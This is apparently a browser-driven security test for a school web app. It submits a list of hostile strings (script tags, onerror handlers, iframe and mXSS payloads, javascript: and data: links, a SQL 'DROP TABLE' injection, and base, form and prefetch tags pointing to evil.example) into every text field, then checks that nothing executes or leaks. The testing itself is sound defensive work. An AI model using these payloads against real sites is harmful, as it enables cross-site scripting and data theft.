// hostile: strings that try to become more than text, sent into every field that takes words, and then looked at on every
// page that shows them, by everybody who may.
//
//   node tests/hostile.mjs         opens the demo school (bin/kith); KITH_DB puts it on PostgreSQL
//
// A dialog, a script that ran, an element that a string made, a report of the content security policy or a request to
// another place is a failure. Each string must also be seen, as it was typed, on at least one page: else nothing was proven.
import { launch } from './browser.mjs'
import { school } from './walk/school.mjs'
import { resolve } from 'node:path'

/** Every string holds MARK, by which it is found again; what it tries to do is noted in window.hit, or leaves for another place. */
const MARK = 'Kx9'
const strings = [
  `${MARK}a<script>hit=1</script>`,
  `${MARK}b</script><script>hit=1</script>`,
  `${MARK}c<img src=x onerror=hit=1>`,
  `${MARK}d"><svg onload=hit=1>`,
  `${MARK}e' onfocus=hit=1 autofocus x='`,
  `${MARK}f<iframe srcdoc="<script>parent.hit=1</script>">`,
  `${MARK}g<a href="javascript:hit=1" class=planted>tap</a>`,
  `${MARK}h<style>@import "https://evil.example/x.css"</style>`,
  `${MARK}i<math><mtext><table><mglyph><style><img src=x onerror=hit=1>`,
  `${MARK}j<!--<img src="--><img src=x onerror=hit=1>`,
  `${MARK}k{{7*7}} \${7*7} {n} # | <% 7*7 %>`,
  `${MARK}l\u202e gnirts a \u2066 <b class=planted>x</b>`,
  `${MARK}m 👩🏽‍🏫 <base href=https://evil.example/>`,
  `${MARK}n<form action=https://evil.example><input name=x autofocus>`,
  `${MARK}o<link rel=prefetch href=https://evil.example/>`,
  `${MARK}p&lt;img src=x onerror=hit=1&gt;`,
]
const pick = (i) => strings[i % strings.length]

const kith = await school(resolve(import.meta.dirname, '..'))
const browser = await launch()
const found = []
const seen = new Set()
const refused = {}
let pages = 0, taken = 0

/** person signs somebody in; everything that their pages do amiss is noted. */
async function person(name) {
  const context = await browser.newContext({ viewport: { width: 1100, height: 900 }, reducedMotion: 'reduce' })
  await context.addInitScript(() => {
    addEventListener('securitypolicyviolation', (e) => { (globalThis.broken ??= []).push(`${e.violatedDirective} ${e.blockedURI}`) })
  })
  const page = await context.newPage()
  page.setDefaultTimeout(30_000)
  page.on('dialog', (d) => { found.push(`${name} at ${page.url()}: a dialog opened`); void d.dismiss() })
  page.on('pageerror', (e) => found.push(`${name} at ${page.url()}: ${e.message}`))
  page.on('request', (r) => { if (!r.url().startsWith(kith.base) && !/^(data|blob|about):/.test(r.url())) found.push(`${name} at ${page.url()} asks ${r.url()}`) })
  page.on('console', (m) => { if (/Content Security Policy/i.test(m.text())) found.push(`${name} at ${page.url()}: ${m.text().slice(0, 200)}`) })
  await page.goto(kith.link(name))
  return page
}

/** act sends a verb as the page's own script would. A refusal is an answer too: what it says is worded by the page. */
async function act(page, path, body) {
  const { status, text } = await page.evaluate(async ([p, b]) => {
    const op = crypto.randomUUID().replace(/^(.{14})./, '$17')
    const r = await fetch(`/api/v1/${p}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ op, ...b }) })
    return { status: r.status, text: await r.text() }
  }, [path, body])
  if (status >= 500) found.push(`${path} answers ${status}: ${text.slice(0, 200)}`)
  if (status < 300) taken++
  else refused[`${path} ${status}`] = (refused[`${path} ${status}`] ?? 0) + 1
  return { status, body: text && JSON.parse(text) }
}
const view = (page, path) => page.evaluate(async (p) => (await (await fetch(`/api/v1/page${p}`)).json()).view, path)
const must = (is, what) => { if (!is) throw new Error(what) }

/** look opens a page and examines what became of the strings in it. */
async function look(page, path) {
  const answer = await page.goto(kith.base + path, { waitUntil: 'load' })
  if (!answer.ok()) { found.push(`${path} answers ${answer.status()}`); return }
  await page.waitForFunction(() => document.querySelector('main'), null, { timeout: 15_000 })
  for (const more of await page.locator('main summary:visible').all()) await more.click().catch(() => {}) // what is folded away is looked at too
  pages++
  await examine(page, path)
}

/** examine says what became of the strings in a page that is open. */
async function examine(page, path) {
  const { hit, broken, planted, text } = await page.evaluate((mark) => {
    const own = (el) => [...el.childNodes].filter((n) => n.nodeType === 3).map((n) => n.data).join('')
    const fields = [...document.querySelectorAll('input, textarea')].map((el) => el.value)
    return {
      hit: globalThis.hit, broken: globalThis.broken ?? [],
      planted: [...document.querySelectorAll('.planted, iframe, base, math mglyph, form[action^="https:"], [onerror], [onload], [onfocus], a[href^="javascript:"], link[rel=prefetch]')].map((el) => el.outerHTML.slice(0, 120)),
      text: [...document.querySelectorAll('body *:not(script):not(style)')].map(own).concat(fields, document.title).filter((t) => t.includes(mark)),
    }
  }, MARK)
  if (hit) found.push(`${path}: a script of a string ran`)
  for (const line of [...broken, ...planted]) found.push(`${path}: ${line}`)
  for (const s of strings) if (text.some((t) => t.includes(s) || t.includes(s.replaceAll(/\s+/g, ' ')))) seen.add(s)
}

const deadline = setTimeout(() => { console.log('hostile: it takes longer than ten minutes'); process.exit(1) }, 600_000)
try {
  const teacher = await person('Mr Okafor')
  const amina = await person('Amina Haddad')
  const cls = /\/class\/([0-9a-f-]{36})\//.exec(teacher.url())?.[1]
  must(cls, `the teacher's first page is ${teacher.url()}`)
  const { learner: who, unit: { id: unit } } = await view(amina, '/plan')
  const form = await view(teacher, `/class/${cls}/lesson`)
  const objective = (await view(amina, `/unit/${unit}/self`)).objectives[0].id

  // What learners write.
  for (let i = 0; i < 6; i++) await act(amina, 'bring-question', { learner: who, class_unit: unit, text: pick(i) })
  await act(amina, 'do-activity', { learner: who, class_unit: unit, objective, note: pick(6) })
  await act(amina, 'ask-for-plan', { learner: who, class_unit: unit })
  const asked = await view(amina, '/plan')
  if (asked.proposal) await act(amina, 'send-plan', { learner: who, class_unit: unit, proposal: asked.proposal.id, edits: [], contested: [], word: strings.slice(7, 10).join(' ') })
  await act(amina, 'raise-hand', { line: pick(10) })
  await act(amina, 'raise-hand', { line: pick(11) }) // refused: the sentence quotes the first

  // What a teacher writes. Links and pictures in a text are refused; the same words without them are not.
  for (const markup of strings) await act(teacher, 'preview-text', { markup })
  for (let i = 0; i < strings.length; i++) {
    const before = { on: new Date(Date.now() + 86_400_000).toISOString().slice(0, 10), at: '09:00' }
    const made = await act(teacher, 'add-lesson', { class_unit: form.unit, title: pick(i), skill: form.skill, minutes: 3, checks: [], text: `# ${pick(i)}\n\n${pick(i + 1)}\n\n[${MARK}](javascript:hit=1) ![${MARK}](https://evil.example/x.png)`, before })
    if (made.status === 200) continue
    found.push(...(made.body.say?.code === 'fault.internal' ? [`a text is refused with ${made.body.say.code}`] : []))
    const plain = await act(teacher, 'add-lesson', { class_unit: form.unit, title: pick(i), skill: form.skill, minutes: 3, checks: [], text: pick(i), before })
    if (plain.status !== 200) await act(teacher, 'add-lesson', { class_unit: form.unit, title: pick(i), skill: form.skill, minutes: 3, checks: [], text: 'Plain.', before })
  }
  for (const link of ['javascript:hit=1', 'data:text/html,<script>hit=1</script>', 'https://evil.example/"><script>hit=1</script>']) {
    const made = await act(teacher, 'add-lesson', { class_unit: form.unit, title: 'Linked', skill: form.skill, minutes: 3, checks: [], link })
    if (made.status === 200 && !link.startsWith('https:')) found.push(`a lesson links to ${link}`)
  }
  await act(teacher, 'start-day', { class: cls })
  const now = await view(teacher, `/class/${cls}/now`)
  for (const [i, p] of now.piles.entries()) await act(teacher, 'set-pile-place', { pile: p.id, place: pick(i).slice(0, 20) })
  await act(teacher, 'credit-skill', { learner: who, skill: form.skill, reason: strings.slice(11, 14).join(' ') })
  await act(teacher, 'add-learners', { class: cls, names: strings.join('\n') })
  await act(teacher, 'add-learners', { class: cls, names: `Robert'); DROP TABLE person;-- ${MARK}` })

  // What an administrator writes.
  const admin = await person('Ms Lindgren')
  for (const i of [12, 13, 14, 15]) await act(admin, 'create-class', { name: pick(i) })
  await act(admin, 'add-person', { role: 'teacher', given: pick(0), family: pick(1) })

  const lessons = (await view(amina, '/home')).how?.invitation?.lesson
  const theirs = [`/class/${cls}/today`, `/class/${cls}/now`, `/class/${cls}/inbox`, `/class/${cls}/units`, `/class/${cls}/people`, `/class/${cls}/lesson`, `/class/${cls}/room`,
    `/learner/${who}`, `/learner/${who}/map`, `/class/${cls}/map`, '/classes', `/print/today/${cls}`, `/print/cards/${cls}`, `/record/${who}`]
  const units = await view(teacher, `/class/${cls}/units`)
  const own = [...new Set(JSON.stringify(units).match(/[0-9a-f]{8}-[0-9a-f-]{27}/g))]
  for (const path of theirs) if (!path.startsWith('/record')) await look(teacher, path)
  for (const path of ['/home', '/plan', '/skills', '/map', '/me', `/unit/${unit}/task`, `/unit/${unit}/self`, `/unit/${unit}/known`, `/unit/${unit}/check`, `/record/${who}`, ...(lessons ? [`/lesson/${lessons}`] : [])]) await look(amina, path)
  let opened = 0
  for (const id of own) { // the teacher's own lessons, as a learner opens them
    if (opened >= strings.length + 2) break
    if ((await amina.request.get(`${kith.base}/api/v1/page/lesson/${id}`)).ok()) { opened++; await look(amina, `/lesson/${id}`) }
  }
  must(opened > 4, `only ${opened} lessons could be opened`)
  // A unit of the teacher's own comes last: a learner's pages show the unit that was given last.
  await act(teacher, 'create-unit', { class: cls, title: pick(2), objective: pick(3), i_can: pick(4), skill: pick(5) })
  const made = (await view(teacher, `/class/${cls}/units`)).units[0].id
  for (const path of [`/class/${cls}/units`, `/class/${cls}/outline/${made}`, `/class/${cls}/prerequisites/${made}`]) await look(teacher, path)
  for (const path of ['/home', '/skills', `/unit/${made}/self`]) await look(amina, path)
  for (const path of ['/admin', '/classes']) await look(admin, path)
  const guardian = await person('Ms Haddad')
  await look(guardian, new URL(guardian.url()).pathname)
  await look(guardian, `/record/${who}`)
  await look(guardian, `/signin/password?next=${encodeURIComponent(`/${pick(3)}`)}`)

  // The examination itself: the same strings put into a page as HTML must be found out, or it proves nothing.
  const before = found.length
  await teacher.evaluate((all) => { for (const s of all) document.querySelector('main').insertAdjacentHTML('beforeend', s) }, strings)
  await teacher.waitForTimeout(300)
  await examine(teacher, 'planted')
  const caught = found.splice(before)
  for (const sign of ['class="planted"', '<iframe', 'script-src', '<base']) if (!caught.some((line) => line.includes(sign))) found.push(`strings were planted as HTML and ${sign} was not found out`)
} catch (e) {
  found.push(String(e.stack ?? e).split('\n').slice(0, 6).join('\n  '))
}
clearTimeout(deadline)
await browser.close()
await kith.stop()
console.log(`refused: ${Object.entries(refused).map(([what, n]) => `${what} (${n})`).join(', ')}`)
const unseen = strings.filter((s) => !seen.has(s))
for (const s of unseen) found.push(`never seen as it was typed: ${s}`)
for (const line of new Set(found)) console.log(`FAILED ${line}`)
console.log(`hostile: ${strings.length} strings in ${taken} writes, ${pages} pages looked at, ${new Set(found).size} findings`)
process.exitCode = found.length > 0 || pages < 20 ? 1 : 0
